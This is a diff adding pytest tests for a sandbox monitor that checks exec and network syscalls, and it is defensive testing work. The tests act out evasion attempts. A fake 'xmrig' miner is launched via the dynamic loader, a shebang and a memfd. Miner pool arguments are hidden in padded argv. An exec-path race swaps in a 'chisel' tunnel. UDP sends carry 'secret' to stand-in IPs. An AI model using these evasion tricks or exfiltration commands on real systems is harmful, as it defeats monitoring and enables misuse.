@@ -7,7 +7,7 @@ import asyncio
 
 import pytest
 
-from tests.conftest import py
+from tests.conftest import eventually, py
 
 pytestmark = pytest.mark.asyncio
 
@@ -65,3 +65,203 @@ async def test_memfd_secret_is_refused(sb_factory):
     r = await sb.exec(syscall_cmd(447, 0))
     rc, err = r.stdout.split()
     assert rc == "-1" and int(err) == 38, r.stdout + r.stderr  # ENOSYS
+
+
+# --- exec: judge what really runs ------------------------------------------------------------------
+def degraded(runtime, sb) -> list:
+    return [e for e in runtime.store.events(sandbox_id=sb.id, kind="sandbox") if e.action == "degraded"]
+
+
+async def test_miner_through_the_dynamic_loader_is_judged_as_the_miner(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("cp /bin/sleep /tmp/xmrig && /lib64/ld-linux-x86-64.so.2 --inhibit-cache /tmp/xmrig 5")
+    f = (await findings_for(runtime, sb, "miner-binary"))[0]
+    assert f.step == r.step and f.data["exe"] == "/tmp/xmrig"
+    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/tmp/xmrig")
+    assert ev.verdict == "deny" and ev.data["launcher"]["exe"] == "/lib64/ld-linux-x86-64.so.2"
+    assert ev.argv == ["/tmp/xmrig", "5"]
+    assert r.exit_code != 0 and r.duration < 5  # the loader never ran it
+
+
+async def test_miner_named_by_a_shebang_line_is_judged(sb_factory, runtime):
+    sb = await sb_factory()
+    await sb.exec("cp /bin/sleep /tmp/xmrig")
+    await sb.write_file("/workspace/run.sh", "#!/tmp/xmrig 5\n", mode=0o755)
+    r = await sb.exec("/workspace/run.sh")
+    f = (await findings_for(runtime, sb, "miner-binary"))[0]
+    assert f.step == r.step and f.data["exe"] == "/tmp/xmrig"
+    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/tmp/xmrig")
+    # the argv the kernel gives the interpreter: its name, the #! argument, the script
+    assert ev.argv == ["/tmp/xmrig", "5", "/workspace/run.sh"] and ev.data["script"] == "/workspace/run.sh"
+    assert ev.verdict == "deny" and r.exit_code != 0
+
+
+async def test_miner_run_from_a_memfd_through_execveat_is_judged_by_its_name(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import os\nfd=os.memfd_create('xmrig', 0)\nos.write(fd, open('/bin/sleep','rb').read())\n"
+        "os.execve(fd, ['sleep', '5'], {})  # fexecve: execveat(fd, '', AT_EMPTY_PATH)"))
+    f = (await findings_for(runtime, sb, "miner-binary"))[0]
+    assert f.step == r.step
+    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.data.get("exec_fd"))
+    assert ev.exe == "/memfd:xmrig" and ev.data["comm"] == "xmrig" and ev.verdict == "deny"
+    assert r.exit_code != 0
+
+
+async def test_miner_arguments_behind_padding_are_seen(sb_factory, runtime):
+    sb = await sb_factory()
+    # spelled so that the command text shows no marker: only the exec's argv does
+    r = await sb.exec("p=strat; sleep $(seq 1 300) -o ${p}um+tcp://pool.example.net:3333")
+    f = (await findings_for(runtime, sb, "miner-arguments"))[0]
+    assert f.step == r.step and len(f.data["argv"]) == 303 and f.data["argv"][-1].startswith("stratum+tcp://")
+
+
+async def test_argv_above_the_cap_is_refused_with_an_event(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import os\ntry:\n    os.execv('/bin/true', ['true'] + ['x' * 1000] * 300)\n"
+        "except OSError as e:\n    print('refused', e.errno)"))
+    assert r.stdout.strip() == "refused 1", r.stdout + r.stderr  # EPERM, from corral
+    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "bytes of arguments" in (e.reason or "")],
+                          "a degraded event naming the argv cap")
+    assert ev[0].step == r.step
+
+
+async def test_exec_whose_memory_cannot_be_read_is_refused(sb_factory, runtime):
+    """An exec whose path corral cannot read is refused (EPERM from corral, not the kernel's EFAULT)
+    and recorded: it is never let through unjudged."""
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import ctypes, mmap\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+        "m = mmap.mmap(-1, 8192)\nbase = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
+        "argv = (ctypes.c_char_p * 2)(b'x', None)\n"
+        "rc = libc.execve(ctypes.c_void_p(0x1000), argv, None)  # an address that is never mapped\n"
+        "print(rc, ctypes.get_errno())"))
+    assert r.stdout.split() == ["-1", "1"], r.stdout + r.stderr
+    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "unreadable" in (e.reason or "")],
+                          "a degraded event for the unreadable exec")
+    assert ev[0].step == r.step and ev[0].verdict == "deny"
+
+
+async def test_exec_is_refused_when_recording_it_fails(sb_factory, runtime, monkeypatch):
+    """The store is full (emit raises): the exec does not run, and a degraded event says why."""
+    sb = await sb_factory()
+    emit = runtime.emit
+
+    def failing(ev, **kw):
+        if ev.kind == "process" and ev.sandbox_id == sb.id and ev.exe and ev.exe.endswith("/env"):
+            raise OSError(28, "No space left on device")
+        return emit(ev, **kw)
+
+    monkeypatch.setattr(runtime, "emit", failing)
+    r = await sb.exec("env true; echo rc=$?")
+    assert "rc=126" in r.stdout and "Operation not permitted" in r.stderr, r.stdout + r.stderr
+    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "No space left" in (e.reason or "")],
+                          "a degraded event for the exec that could not be recorded")
+    assert ev[0].step == r.step
+
+
+RACE = """
+import ctypes, os, threading
+libc = ctypes.CDLL(None, use_errno=True)
+good, bad = b'/bin/false\\0', b'/tmp/chisel\\0'
+counts = {}
+for i in range(300):
+    pid = os.fork()
+    if pid == 0:
+        buf = ctypes.create_string_buffer(good, 32)
+        def flip():
+            while True:
+                ctypes.memmove(buf, bad, len(bad))
+                ctypes.memmove(buf, good, len(good))
+        threading.Thread(target=flip, daemon=True).start()
+        argv = (ctypes.c_char_p * 2)(b'x', None)
+        libc.execve(buf, argv, None)
+        os._exit(100 + ctypes.get_errno())
+    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+    counts[code] = counts.get(code, 0) + 1
+print(sorted(counts.items()))
+"""
+
+
+async def test_path_rewritten_after_corral_read_it_is_killed(sb_factory, runtime):
+    """Another thread rewrites the exec path between corral's read and the kernel's: what really runs
+    (a tunnel tool, refused by name) is not what was judged (/bin/false). The image that runs is
+    checked after the exec, and a mismatch is killed and recorded. chisel's rule blocks without
+    ending the step, so the race runs its 300 tries."""
+    sb = await sb_factory()
+    await sb.write_file("/tmp/chisel", "#!/bin/sh\nsleep 0.3\nexit 0\n", mode=0o755)
+    r = await sb.exec(py(RACE), timeout=240)
+    counts = dict(eval(r.stdout))  # exit status -> how many tries
+    # 0: the script ran to its end, unjudged. 1: /bin/false ran. 101: corral read 'chisel' (EPERM).
+    assert counts.get(0, 0) == 0, counts
+    assert counts.get(101, 0) > 0, counts  # the race really was run both ways
+    if counts.get(-9, 0):
+        mismatches = [e for e in degraded(runtime, sb) if "exec mismatch" in (e.reason or "")]
+        assert mismatches and all(e.step == r.step for e in mismatches)
+
+
+# --- connect and send: every call seen, attributed by socket --------------------------------------
+def connects(runtime, sb, ip: str) -> list:
+    return [e for e in runtime.store.events(sandbox_id=sb.id, kind="connect") if e.dst_ip == ip and e.action != "close"]
+
+
+PADDED_CONNECT = """
+import ctypes, socket, struct, time
+libc = ctypes.CDLL(None, use_errno=True)
+s = socket.socket()
+addr = struct.pack('=H', socket.AF_INET) + struct.pack('!H', {port}) + socket.inet_aton('{ip}')
+buf = ctypes.create_string_buffer(addr.ljust(128, b'\\0'), 128)  # a sockaddr_storage's length
+print('connect', libc.connect(s.fileno(), buf, 128), ctypes.get_errno())
+time.sleep(0.5)
+"""
+
+
+async def test_connect_is_attributed_to_its_own_socket_not_to_failed_connects_of_an_earlier_step(
+        sb_factory, runtime):
+    """Step 1 makes connects that fail at once (EISCONN on a listening socket) to a destination; step 2
+    connects there with addrlen 128. The connection is step 2's: a failed call is not kept, and the
+    connection is matched to the socket that made it."""
+    sb = await sb_factory()
+    ip, port = "203.0.113.21", 9999
+    first = await sb.exec(py(
+        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nn = 0\n"
+        f"for _ in range(5):\n    try:\n        s.connect(('{ip}', {port}))\n"
+        "    except OSError as e:\n        n += e.errno == 106\nprint('eisconn', n)"))
+    assert first.stdout.strip() == "eisconn 5", first.stdout + first.stderr
+    second = await sb.exec(py(PADDED_CONNECT.format(ip=ip, port=port)))
+    assert second.stdout.startswith("connect"), second.stderr
+    evs = await eventually(lambda: connects(runtime, sb, ip), "the connection's event")
+    assert [e.step for e in evs] == [second.step], [(e.step, e.data.get("attribution")) for e in evs]
+    assert evs[0].data.get("attribution") == "connect-syscall" and "python3" in (evs[0].exe or "")
+
+
+async def test_udp_sendmsg_and_sendmmsg_to_an_address_are_seen(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import ctypes, socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "s.sendmsg([b'secret'], [], 0, ('203.0.113.22', 9998))\n"
+        # sendmmsg: one struct mmsghdr naming 203.0.113.23:9997
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "name = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', 9997)"
+        " + socket.inet_aton('203.0.113.23') + bytes(8), 16)\n"
+        "data = ctypes.create_string_buffer(b'secret', 6)\n"
+        "iov = (ctypes.c_uint64 * 2)(ctypes.addressof(data), 6)\n"
+        "hdr = ctypes.create_string_buffer(struct.pack('=QI4xQQQQi4xI4x', ctypes.addressof(name), 16,"
+        " ctypes.addressof(iov), 1, 0, 0, 0, 0), 64)\n"
+        "print('sent', libc.sendmmsg(s.fileno(), hdr, 1, 0))"))
+    assert r.stdout.strip() == "sent 1", r.stdout + r.stderr
+    for ip in ("203.0.113.22", "203.0.113.23"):
+        evs = await eventually(lambda ip=ip: connects(runtime, sb, ip), f"the datagram event for {ip}")
+        assert evs[0].protocol == "udp" and evs[0].verdict == "deny" and evs[0].step == r.step
+
+
+async def test_connect_whose_address_cannot_be_read_is_refused(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import ctypes, socket\nlibc = ctypes.CDLL(None, use_errno=True)\ns = socket.socket()\n"
+        "print(libc.connect(s.fileno(), ctypes.c_void_p(0x1000), 16), ctypes.get_errno())"))
+    assert r.stdout.split() == ["-1", "1"], r.stdout + r.stderr  # EPERM from corral, not EFAULT
+    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "connect/send refused" in (e.reason or "")],
+                          "a degraded event for the connect")
+    assert ev[0].step == r.step
